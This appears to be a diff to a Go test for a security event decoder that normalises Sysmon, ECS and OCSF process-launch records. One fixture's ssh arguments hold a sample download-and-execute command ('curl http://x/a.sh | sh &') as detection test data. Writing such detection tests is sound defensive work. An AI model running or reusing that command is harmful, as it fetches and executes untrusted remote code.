@@ -49,21 +49,6 @@ func stdECS() map[string]any {
 	}
 }
 
-// flatten turns nested objects into dotted keys.
-func flatten(prefix string, m map[string]any, out map[string]any) map[string]any {
-	for k, v := range m {
-		if prefix != "" {
-			k = prefix + "." + k
-		}
-		if sub, ok := v.(map[string]any); ok {
-			flatten(k, sub, out)
-		} else {
-			out[k] = v
-		}
-	}
-	return out
-}
-
 // stdOCSF is stdEvent as OCSF Process Activity, Launch; parentKey is
 // "process.parent_process" or "actor.process".
 func stdOCSF(parentKey string) map[string]any {
@@ -89,7 +74,13 @@ func TestShapesDecodeLikeSysmon(t *testing.T) {
 	xml := sysmonXML("1", stdSystem, stdData)
 	syslogLine := "Nov  2 10:00:01 web-01 sysmon: " + xml
 	noOFN := withEvent(func(e *processor.Event) { e.OriginalFileName = "" })
-	ecsFlat := flatten("", stdECS(), map[string]any{})
+	ecsFlat := map[string]any{
+		"@timestamp": "2026-11-02T10:00:00.100Z", "ecs.version": "8.11.0", "event.category": "process", "event.type": "start",
+		"host.name": "web-01", "user.name": "root", "process.command_line": stdEvent.Process, "process.name": "ssh",
+		"process.executable": "/usr/bin/ssh", "process.pid": 4242, "process.pe.original_file_name": "-",
+		"process.parent.pid": 4000, "process.parent.name": "bash", "process.parent.executable": "/usr/bin/bash",
+		"process.parent.command_line": "bash ./s.sh",
+	}
 	ecsArgs := stdECS()
 	delete(ecsArgs["process"].(map[string]any), "command_line")
 	ecsArgs["process"].(map[string]any)["args"] = []string{"ssh", "-oBatchMode=yes", "10.0.0.1", `"curl http://x/a.sh | sh &"`}
